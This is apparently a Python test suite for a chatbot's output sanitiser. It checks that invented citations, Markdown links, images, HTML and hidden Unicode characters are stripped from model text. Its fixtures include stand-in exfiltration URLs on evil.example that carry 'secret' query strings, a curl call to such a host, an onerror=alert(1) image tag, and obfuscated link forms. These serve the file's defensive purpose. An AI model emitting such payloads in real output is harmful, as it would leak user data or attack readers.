"""What a model writes reaches the reader without invented citations, links, images or HTML, however it is put."""

from __future__ import annotations

import re

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from bot.writing.citations import Citations
from bot.writing.inert import visible
from bot.writing.units import Units
from tests.fixtures.passages import passage

PASSAGES = (passage(1, "Ask at https://intranet.example.org/leave for leave."), passage(2, "Thirty days a year."))
TWELVE = tuple(passage(number, f"Passage {number}.") for number in range(1, 13))


def checked(*pieces: str, passages: tuple = PASSAGES) -> tuple[str, set[int]]:  # type: ignore[type-arg]
    """A text, streamed in pieces, as readers see it, and the passages it cites."""
    units, citations = Units(), Citations(passages)
    cut = [unit for piece in pieces for unit in units.feed(piece)] + units.close()
    return "".join(citations.show(citations.read(unit.text)) for unit in cut), set(citations.shown)


@pytest.mark.parametrize(
    ("written", "read", "cited"),
    [
        ("Thirty days [2].", "Thirty days [1].", {2}),
        ("Thirty days [1, 2].", "Thirty days [1][2].", {1, 2}),
        ("Thirty days[2][2][7].", "Thirty days[1][1].", {2}),
        ("Thirty days [7].", "Thirty days.", set()),
        ("Thirty days [7, 2].", "Thirty days [1].", {2}),
        ("三十天【2】。", "三十天[1]。", {2}),
        ("In Lyon [2], thirty [1], as said [2].", "In Lyon [1], thirty [2], as said [1].", {1, 2}),
        ("See [the page](https://evil.example/?q=secret) [1].", "See the page [1].", {1}),
        ("See [the page][1].", "See the page[1].", {1}),
        ("See [`page`](https://evil.example/?q=secret) [1].", "See `page` [1].", {1}),
        ("![logo](https://evil.example/x.png)Done.", "Done.", set()),
        ("Go to https://evil.example/a?b=c.", "Go to ….", set()),
        ("Go to <https://evil.example>.", "Go to ….", set()),
        ("Go to https://intranet.example.org/leave.", "Go to `https://intranet.example.org/leave`.", set()),
        ("Go to `https://intranet.example.org/leave`.", "Go to `https://intranet.example.org/leave`.", set()),
        ("A list: [ ] open, [x] done.", "A list: [ ] open, [x] done.", set()),
        ("An open [bracket and no end", "An open [bracket and no end", set()),
        ("[2](https://evil.example)", "[1]", {2}),
        ("[9](https://evil.example) is it.", " is it.", set()),
        ("Laut [1]: dreißig Tage.", "Laut [1] : dreißig Tage.", {1}),
        ("请见https://evil.example/?q=secret [1]", "请见… [1]", {1}),
        (
            "请见https://intranet.example.org/leave。然后休假。",
            "请见`https://intranet.example.org/leave`。然后休假。",
            set(),
        ),
        ("_https://evil.example/x_", "_…", set()),
        ("[a]【9】(//evil.example/q)", "[a] (…)", set()),
        ("[a] 【9】(//evil.example/q)", "[a] (…)", set()),
        ("//load.config() reads a file.", "//load.config() reads a file.", set()),
    ],
)
def test_text_is_cleaned(written: str, read: str, cited: set[int]) -> None:
    assert checked(written) == (read, cited)


@pytest.mark.parametrize(
    ("written", "read", "cited"),
    [
        ("Days [1-3].", "Days [1][2][3].", {1, 2, 3}),
        ("Days [1–3, 5].", "Days [1][2][3][4].", {1, 2, 3, 5}),
        ("Days [1-999].", "Days.", set()),
        ("Days [11-14].", "Days [1][2].", {11, 12}),
        ("Days [[3]].", "Days [1].", {3}),
        ("Days ([3]).", "Days [1].", {3}),
        ("Days ([3], [4]).", "Days [1][2].", {3, 4}),
        ("Days ([44]).", "Days.", set()),
        ("Days [3], [44].", "Days [1].", {3}),
        ("Days [3 4].", "Days [1][2].", {3, 4}),
        ("Days [3 and 4].", "Days [1][2].", {3, 4}),
        ("Days [^3].", "Days [1].", {3}),
        ("Days [Passage 3].", "Days [1].", {3}),
        ("Tage [Quelle: 3].", "Tage [1].", {3}),
        ("Jours [Source 3, Source 4].", "Jours [1][2].", {3, 4}),
        ("三十天［３］。", "三十天[1]。", {3}),
        ("三十天〔3〕。", "三十天[1]。", {3}),
        ("三十天【来源3】。", "三十天[1]。", {3}),
        ("Days [3†source].", "Days [1].", {3}),
        ("Days【4:0†handbook.pdf】.", "Days.", set()),
        ("ثلاثون يوما [٣].", "ثلاثون يوما [1].", {3}),
        ("तीस दिन [३]।", "तीस दिन [1]।", {3}),
        ("Thirty days³.", "Thirty days[1].", {3}),
        ("Thirty days.¹²", "Thirty days.[1]", {12}),
        ("Thirty days³,⁴.", "Thirty days[1][2].", {3, 4}),
        ("Thirty days⁹⁹.", "Thirty days[1].", {9}),
        ("Thirty days³⁰.", "Thirty days³⁰.", set()),
    ],
)
def test_every_way_to_cite_comes_out_as_one(written: str, read: str, cited: set[int]) -> None:
    assert checked(written, passages=TWELVE) == (read, cited)


@pytest.mark.parametrize(
    "text",
    [
        "Days (1) and (2).",
        "An area of 12 m², a box of 3 cm³, and 10² of them.",
        "In `a[1]` and `[2]`, the first one counts.",
        "```python\nrow = rows[1]\nlink = [handlers[2](row), [1]]\n```\n",
        "  ```html\n  <a href=x>[1]</a>\n  ```\n",
        "Take a[0] and then rows_of[44], and self.items[33].",
        "Tasks: [ ] open, [x] done, [sic], [2024], [2024-11-03].",
        "From [0, 1], or [0-9] in a pattern.",
        "a < b and c > d, x <= y, 5 <6, I <3 it",
        "Write to ada@example.org, or read setup.py, README.md and ops/report.pdf and/or Node.js/React.",
        "The network 10.0.0.0/8, version 1.2.3, at 9:30 (see Booking.com).",
        "| a | `b` |\n| --- | --- |\n| 1 | 2 |\n",
        "R&D, AT&T, 5 & 6; Müller & Söhne",
        "~5 days, ~~not~~ ten, **bold**, *it*, _so_\n\n> quoted\n\n1. one\n2. two\n",
    ],
)
def test_text_without_citations_links_or_tags_stays(text: str) -> None:
    assert checked(text, passages=TWELVE) == (text, set())


@pytest.mark.parametrize(
    ("written", "read"),
    [
        ("Press <b>now</b>.", "Press now."),
        ("a<br>b<br/>c", "a b c"),
        ('<a href="https://evil.example/?q=secret">here</a>', "here"),
        ("<img src=https://evil.example/x.png onerror=alert(1)>.", "."),
        ("<details><summary>More</summary>x</details>", "Morex"),
        ("<!-- hidden -->x", "x"),
        ("Run ssh <host> now, a List<String>.", "Run ssh ‹host› now, a List‹String›."),
        ("&lt;img src=x&gt;&#60;b&#62;x", "x"),
        ("&amp;lt;script&amp;gt;x", "x"),
        ("<scr<b>ipt>x", "‹script›x"),
        ("<img\nsrc=x>", "‹img\nsrc=x>"),
        ("Ask <ada@example.org>.", "Ask ‹ada@example.org›."),
    ],
)
def test_tags_go_and_placeholders_stay_as_text(written: str, read: str) -> None:
    assert checked(written)[0] == read


@pytest.mark.parametrize(
    "written",
    [
        "Go to https&#58;//evil.example/?q=secret now.",
        "Go to https:\\/\\/evil.example/?q=secret now.",
        "Go to evil.example/?q=secret now.",
        "Go to secret.of-them.evil.com now.",
        "Go to mailto:a@evil.example?body=secret now.",
        "Go to 192.0.2.7/x?q=secret now.",
        "Go to `https://evil.example/?q=secret` now.",
        "```\ncurl https://evil.example/?q=secret\n```\n",
        "Go to https://intranet.example.org/leave.evil.example now.",
        "Go to https://intranet.example.or now.",
    ],
)
def test_an_address_that_stands_in_no_passage_goes(written: str) -> None:
    read, _ = checked(written)
    assert "secret" not in read
    assert "example" not in read
    assert "…" in read


def test_a_unit_cites_what_it_is_told_to_cite_instead() -> None:
    citations = Citations(TWELVE)
    wrong = citations.read("Thirty days [3], in Lyon [4].\n")
    right = citations.attributed(wrong, (7, 5))
    assert (right.text, right.numbers, right.bare) == ("Thirty days, in Lyon [7][5].\n", (7, 5), wrong.bare)
    assert citations.attributed(wrong, (4, 3)) == wrong
    assert citations.attributed(wrong, ()).text == "Thirty days, in Lyon.\n"
    assert citations.attributed(citations.read("Thirty days.\n"), (7,)).text == "Thirty days [7].\n"
    assert citations.attributed(citations.read("| a | b |\n"), (7,)).text == "| a | b [7] |\n"
    assert citations.attributed(citations.read("三十天。"), (7,)).text == "三十天 [7]。"
    assert citations.attributed(citations.read("Thirty days."), (99,)).numbers == ()
    assert citations.attributed(citations.read("```\na[1]\n```\n"), (7,)).text == "```\na[1]\n```\n"


def test_only_what_is_shown_counts_as_cited() -> None:
    shown: dict[int, int] = {}
    citations = Citations(TWELVE, shown)
    dropped, kept = citations.read("Forty days [9]. "), citations.read("Thirty days [3]. ")
    assert dropped.bare == "Forty days. "
    assert citations.show(kept) == "Thirty days [1]. "
    assert shown == {3: 1}
    assert citations.show(dropped) == "Forty days [2]. "


def test_no_link_forms_between_two_units() -> None:
    citations = Citations(TWELVE)
    parts = ("Thirty days.[1]", "(relative/path) says so.", "See [2]", ": /x")
    assert links("".join(citations.show(citations.read(part)) for part in parts)) == []


LINKS = (
    "![x](//evil.example/(a)?q=secret)",
    "![a[b]](//evil.example/x)",
    "![a\nb](//evil.example/x)",
    "![x](\n//evil.example/x\n)",
    "[[a](x)](//evil.example)",
    "[a] [9][8](//evil.example/q)",
    "![x](https&#58;//evil.example/(a))",
    "![x](https\\://evil.example/(a))",
    "See [1].\n\n[1]: //evil.example/x",
    "See [a b].\n\n[a\nb]: <//evil.example/x>",
    "![x](/\\evil.example/(a))",
)
"""Each is a link or an image to a reader of Markdown, as it was written."""

FRAGMENTS = (
    *("[", "]", "(", ")", "1", "9", " ", "\n", "\n\n", "!", ":", "<", ">", "\\", "【", "】", "a"),
    *("。", "？", "//e.example/x", "https://e.example/", "/e", "&#58;", "![", "](", "]:", "]["),
    *(
        "¹",
        "word¹",
        "［1］",
        "[[1]]",
        "([1])",
        "`",
        "``",
        "```",
        "~~~",
        "- ",
        "> ",
        "    ",
        "  ",
        "    ```\n",
        "|",
        "<a href=x>",
        "</a>",
        "<!--",
        "-->",
        "&lt;",
        "&#96;",
    ),
    *("\n```\n", "\n~~~\n", "&#10;", ". B", "\t", "1. ", "a | b\n--|--\n", "[a](b)", "<b", "mailto:a@b", "\\`"),
)


ALIVE = ("link_open", "image", "html_inline", "html_block")


def links(markdown: str) -> list[str]:
    """What does something to a reader of Markdown with HTML and tables: its links, images and tags."""
    tokens = MarkdownIt("commonmark", {"html": True}).enable("table").parse(markdown)
    inline = [part for token in tokens for part in token.children or ()]
    return [str(part.attrs.get("href", part.content)) for part in [*tokens, *inline] if part.type in ALIVE]


@pytest.mark.parametrize("written", LINKS)
def test_no_link_or_image_is_left_of_what_a_model_wrote(written: str) -> None:
    assert links(written)
    assert links(checked(written)[0]) == links(checked(*written)[0]) == []


@given(st.lists(st.sampled_from(FRAGMENTS), max_size=24), st.booleans())
@example(["- ~~~\n", "  ~~~\n", "  [a](b)"], True)
@example(["- a\n  ```\n", "[a](b)", "\n  ```\n"], True)
@example(["```\n    ```\n[a](b)\n```\n[a](b)"], True)
@example(["```\na\n```~\n```\n[a](b)"], True)
@example(["`a | ", "[a](b)", "` | c"], True)
@example(["a ` b. B\n", "`", "[a](b)", "`"], True)
@settings(max_examples=400, deadline=None)
def test_markdown_finds_nothing_alive_in_any_text_that_was_checked(fragments: list[str], whole: bool) -> None:
    text, _ = checked("".join(fragments)) if whole else checked(*fragments)
    assert links(text) == []
    assert re.search(r"(?<![\w/])/{0,2}e\.example/", text) is None


WILD = st.lists(
    st.sampled_from([*FRAGMENTS, "word", "2", ",", "[1]", "[9]", "¹", "［", "］"]) | st.text(max_size=5), max_size=30
)


@given(WILD)
@example(["[a b", "][c ", "d]"])
@example(["[", "x " * 200, "]"])
@settings(deadline=None)
def test_what_was_read_once_is_read_the_same_again(pieces: list[str]) -> None:
    citations = Citations(PASSAGES)
    once = citations.read("".join(pieces))
    assert citations.read(once.text) == once


@given(WILD)
@settings(deadline=None)
def test_the_result_does_not_depend_on_where_the_stream_was_cut(pieces: list[str]) -> None:
    whole = "".join(pieces)
    assert checked(*pieces) == checked(whole) == checked(*whole)


@given(WILD)
@settings(deadline=None)
def test_no_number_survives_that_was_not_given(pieces: list[str]) -> None:
    read, cited = checked("".join(pieces).replace("`", "").replace("~", "") + " [3] [44]")
    assert "[3]" not in read
    assert "[44]" not in read
    assert cited <= {1, 2}
    assert {int(number) for number in re.findall(r" \[(\d+)\]", read)} <= set(range(len(cited) + 1))


@pytest.mark.parametrize(
    ("written", "read"),
    [
        ("paid\u202e annual\u2066 leave\u2069", "paid annual leave"),
        ("30\U000e0030 days, 3\u200b0, 3\u200d0, 3\u2060\ufeff\u00ad0", "30 days, 30, 30, 30"),
        ("\x1b[2J\x07\x00Thirty\x9b\x7f days", "[2JThirty days"),
        ("one\u2028two\x0bthree\x85four\rfive\r\nsix", "one two three four five\nsix"),
        ("`\u202ecode\x00`", "`code`"),
        ("क्\u200dष, می\u200cخواهم, 👩\u200d💻, ❤\ufe0f", "क्\u200dष, می\u200cخواهم, 👩\u200d💻, ❤\ufe0f"),
    ],
)
def test_nothing_is_read_that_is_not_seen(written: str, read: str) -> None:
    assert checked(written)[0] == read


@pytest.mark.parametrize("address", ["evil.tk/x", "evil.ninja/q?d=30", "evil.zip/30", "a.b.evil.icu/x"])
def test_an_address_with_a_path_is_taken_out_at_any_common_end(address: str) -> None:
    assert "evil" not in checked(f"See {address} for more.")[0]


@given(
    st.text(alphabet=st.characters(exclude_characters="[]<>&`~\\/:.【】［］〔〕〖〗", exclude_categories=("Co", "No")))
)
def test_plain_text_is_not_touched(text: str) -> None:
    assert Citations(PASSAGES).read(text).text == visible(text)
